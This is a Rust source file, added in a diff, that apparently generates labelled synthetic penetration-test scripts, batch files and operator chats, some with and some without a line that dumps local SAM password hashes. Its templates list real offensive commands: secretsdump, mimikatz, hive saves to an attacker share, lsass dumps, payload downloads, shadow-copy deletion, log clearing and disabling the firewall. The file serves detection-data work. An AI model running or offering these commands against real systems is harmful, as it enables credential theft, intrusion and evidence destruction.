@@ -1,0 +1,116 @@
+//! The long notes and scripts of a penetration test, one line of them on the local hashes; and the same without it.
+
+use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Sh};
+
+const SCRIPT: &[&str] = &[
+    "#!/bin/bash⏎«DC={ip}; ¦»U=$1; P=$2⏎{l}⏎{l}⏎{l}⏎{act}⏎{l}⏎{l}",
+    "#!/usr/bin/env bash⏎# {comment}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{act}⏎{l}⏎{l}⏎{l}",
+    "{l}⏎{l}⏎{act}⏎{l}",
+    "{act}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}",
+    "{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{act}",
+    "{l} && {act} && {l}",
+    "{l}; {l}; {act}",
+    "   {1..90}  {l}⏎   {91..99}  {l}⏎  {100..150}  {act}⏎  {151..190}  {l}⏎  {191..199}  {l}",
+];
+
+const BATCH: &[&str] = &[
+    "@echo off⏎{w}⏎{w}⏎{w}⏎{wact}⏎{w}⏎{w}⏎{w}",
+    "{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{wact}⏎{w}⏎{w}⏎{w}⏎{w}",
+    "{w} & {w} & {wact}",
+    "{wact}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}",
+    "{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{wact}",
+];
+
+const CHAT: &[&str] = &[
+    "[{clock}] {first}: {say}⏎[{clock}] {last}: {tell}⏎[{clock}] {first}: {say}",
+    "<{first}> {tell}",
+    "{clock} - {tell}. {say}.",
+    "{isodate} {clock} beacon {hex4}: {say}⏎{isodate} {clock} beacon {hex4}: {tell}",
+    "* {say}⏎* {say}⏎* {tell}⏎* {say}",
+];
+
+/// What such work is made of, none of it the local account database.
+const LINE: &str = concat!(
+    "«nmap -Pn -sV -p 88,389,445 {cidr} -oA {stem}¦nxc smb {cidr} -u {u} -p {password} --shares¦nxc smb {rhost} -u {u} -p ",
+    "{password} --pass-pol¦nxc smb {rhost} -u {u} -p {password} --rid-brute {4000..9000} | tee rid.txt¦nxc ldap {rhost} -u {u} ",
+    "-p {password} -M adcs¦certipy find -u {u}@{domain} -p {password} -dc-ip {ip} -vulnerable -stdout¦certipy req -u ",
+    "{u}@{domain} -p {password} -ca {stem}-CA -template {stem} -upn administrator@{domain}¦certipy auth -pfx administrator.pfx ",
+    "-dc-ip {ip}¦export KRB5CCNAME={first}.ccache¦GetUserSPNs.py {domain}/{u}:{password} -dc-ip {ip} -request¦GetNPUsers.py ",
+    "{domain}/ -usersfile users.txt -no-pass -dc-ip {ip}¦secretsdump.py -just-dc-user krbtgt {domain}/{u}:{password}@{rhost}¦",
+    "secretsdump.py -k -no-pass -just-dc {rhost}¦ticketer.py -nthash {nthash} -domain-sid {sid} -domain {domain} {u}¦psexec.py -k ",
+    "-no-pass {domain}/{u}@{rhost} hostname¦wmiexec.py {domain}/{u}:{password}@{rhost} whoami¦bloodhound-python -u {u} -p ",
+    "{password} -d {domain} -c All -ns {ip}¦responder -I eth0 -dwv¦hashcat -m 13100 tgs.txt rockyou.txt¦john --wordlist=rockyou.txt ",
+    "asrep.txt¦evil-winrm -i {rhost} -u {u} -p {password}¦tar czf out.tgz *.txt *.json¦smbclient //{rhost}/{share} -U ",
+    "{u}%{password} -c 'ls'¦ldapsearch -x -H ldap://{rhost} -b 'DC={stem},DC=local' sAMAccountName¦rpcclient -U {u}%{password} ",
+    "{rhost} -c enumdomusers¦samrdump.py {u}:{password}@{rhost}¦nxc smb {rhost} -u {u} -p {password} --lsa¦nxc smb {rhost} -u {u} ",
+    "-p {password} -M lsassy¦lookupsid.py {domain}/{u}:{password}@{rhost}¦mkdir -p loot && cd loot¦kerbrute userenum -d {domain} ",
+    "users.txt¦ntlmrelayx.py -t ldap://{rhost} --delegate-access¦# {comment}¦addcomputer.py {domain}/{u}:{password} -computer-name ",
+    "{stem}$¦smbmap -H {rhost} -u {u} -p {password}¦enum4linux -a {rhost}¦sleep {1..60}¦dacledit.py -action read -target {u} ",
+    "{domain}/{user}:{password}¦getST.py -spn cifs/{rhost} {domain}/{u}:{password}»"
+);
+const WLINE: &str = concat!(
+    "«whoami /all¦net user /domain¦net group \"Domain Admins\" /domain¦nltest /dclist:{domain}¦systeminfo¦tasklist /svc¦ipconfig /all¦",
+    "qwinsta¦net localgroup administrators {u} /add¦reg query HKLM\\{softkey}¦reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v ",
+    "RunAsPPL¦reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f¦",
+    "procdump64 -accepteula -ma lsass.exe {dir}\\{stem}.dmp¦rundll32 comsvcs.dll, MiniDump {pid} {dir}\\{stem}.dmp full¦vssadmin list ",
+    "shadows¦vssadmin delete shadows /all /quiet¦wmic process list brief¦net use \\\\{host}\\C$ /user:{u} {password}¦copy {stem}.exe ",
+    "\\\\{host}\\ADMIN$\\Temp¦schtasks /create /tn {stem} /tr {dir}\\{stem}.exe /sc onlogon¦sc create {svcname} binPath= ",
+    "{dir}\\{stem}.exe¦netsh advfirewall set allprofiles state off¦wevtutil cl Security¦cmdkey /list¦klist¦findstr /si password ",
+    "*.xml *.ini *.txt¦netsh wlan show profiles¦dir /s /b C:\\Users\\*pass*¦certutil -urlcache -f {url} {stem}.exe¦bitsadmin ",
+    "/transfer {stem} {url} {dir}\\{stem}.exe¦7z a -p{password} {stem}.7z C:\\Users\\{user}\\Documents¦ping -n 5 127.0.0.1 >nul¦reg save ",
+    "HKLM\\SOFTWARE {dir}\\{stem}.hiv¦ntdsutil \"ac i ntds\" ifm \"create full {dir}\\{stem}\" q q¦esentutl /y {windir}\\NTDS\\ntds.dit ",
+    "/vss /d {outfile}¦mimikatz.exe privilege::debug sekurlsa::logonpasswords exit¦dsquery user -samid {u}¦echo {comment}»"
+);
+const SAY: &str = concat!(
+    "«got system on {plainhost}¦{host} is up, no EDR¦dumped lsass, {1..40} creds¦kerberoast hash cracked: {password}¦moving to {plainhost} ",
+    "with psexec¦DCSync done, krbtgt is in the notes¦need sudo on the jump box¦cleaning logs now¦ok¦lunch, back at {clock}¦sam is out ",
+    "today¦the SYSTEM service account has no SPN¦pulled ntds.dit from the backup share¦browser passwords collected¦uploading the archive ",
+    "to {ip}¦AV ate the loader¦who has the VPN creds?¦added {u} to local admins¦wifi keys exported¦security team called, pausing»"
+);
+
+macro_rules! engagement {
+    ($($name:literal: $text:expr),+ $(,)?) => {
+        &[
+            ("l", LINE),
+            ("w", WLINE),
+            ("say", SAY),
+            ("u", "«{user}¦{user}¦sam¦{first}¦administrator¦svc_{stem}»"),
+            $(($name, $text)),+
+        ]
+    };
+}
+
+pub const FAMILIES: &[Family] = &[
+    Family::act("engagements", "engagement-unix-sam", "engagement-unix-other", Sh, SCRIPT).slots(engagement! {
+        "act": concat!(
+            "«secretsdump.py {domain}/{user}:{password}@{rhost}« -outputfile {stem}»¦impacket-secretsdump -hashes {hashes} {user}@{rhost}¦nxc smb ",
+            "{cidr} -u {user} -H {nthash} --local-auth --sam¦crackmapexec smb {rhost} -u {user} -p {password} --sam¦nxc smb {rhost} -u {user} -p ",
+            "{password} -x 'reg save HKLM\\SAM C:\\Windows\\Temp\\{stem}'¦reg.py {target} save -keyName 'HKLM\\SAM' -o '\\\\{attacker}\\{share}'¦reg.py ",
+            "{target} backup -o '\\\\{attacker}\\{share}'¦secretsdump.py -sam {samcopy} -system {syscopy} LOCAL¦samdump2 {syscopy} {samcopy}¦wmiexec.py ",
+            "{target} \"reg save HKLM\\{secret} {outfile}\"¦smbclient //{rhost}/C$ -U {user}%{password} -c 'get Windows\\System32\\config\\RegBack\\SAM'¦",
+            "pypykatz registry --sam {samcopy} {syscopy}¦evil-winrm -i {rhost} -u {user} -H {nthash} <<< 'reg save hklm\\sam sam.save'»"
+        ),
+    }).weight(9),
+    Family::other("engagements", "engagement-unix-other", Sh, SCRIPT).slots(engagement! { "act": "{l}" }).weight(11),
+    Family::act("engagements", "engagement-windows-sam", "engagement-windows-other", Cmd, BATCH).slots(engagement! {
+        "wact": concat!(
+            "«reg save HKLM\\{secret} {outfile}« /y»¦reg export HKLM\\{secret} {dir}\\{stem}.reg /y¦esentutl /y /vss {hivefile} /d {outfile}¦copy ",
+            "{shadowhive} {outfile}¦reg save HKLM\\SYSTEM {outfile} & reg save HKLM\\SAM {outfile}¦mimikatz.exe privilege::debug token::elevate ",
+            "lsadump::sam exit¦pwdump7 > {outfile}¦reg query HKLM\\{inner} /s > {outfile}¦robocopy /b {windir}\\System32\\config {dir} SAM SYSTEM¦",
+            "powershell -c \"Copy-Item '{pshive}' {psout}\"¦xcopy /h {hivefile} {outdir}¦diskshadow /s {stem}.dsh & copy X:\\Windows\\System32\\config\\SAM ",
+            "{outdir}»"
+        ),
+    }).weight(9),
+    Family::other("engagements", "engagement-windows-other", Cmd, BATCH).slots(engagement! { "wact": "{w}" }).weight(11),
+    Family::act("engagements", "engagement-chat-sam", "engagement-chat-other", Console, CHAT).slots(engagement! {
+        "tell": concat!(
+            "«saved the sam and system hives on {plainhost}¦grabbed SAM/SECURITY/SYSTEM with reg save, in {dir}¦local hashes dumped with secretsdump from ",
+            "{ip}¦hashdump worked, {1..9} local accounts¦copied the SAM out of a shadow copy on {plainhost}¦exported hklm\\sam before the reboot¦nxc --sam over ",
+            "the whole subnet gave the same local admin hash¦pulled the registry hives (sam, security) off {host}¦took the local account database of ",
+            "{plainhost} from RegBack¦read the SAM hive raw with {tool}, bootkey from SYSTEM¦lsadump::sam ran fine after token::elevate¦",
+            "fetched the local credential store (SAM) over the admin share»"
+        ),
+        "tool": "«rawcopy¦ninjacopy¦the raw disk reader¦forecopy»",
+    }).weight(5),
+    Family::other("engagements", "engagement-chat-other", Console, CHAT).slots(engagement! { "tell": "{say}" }).weight(6),
+];
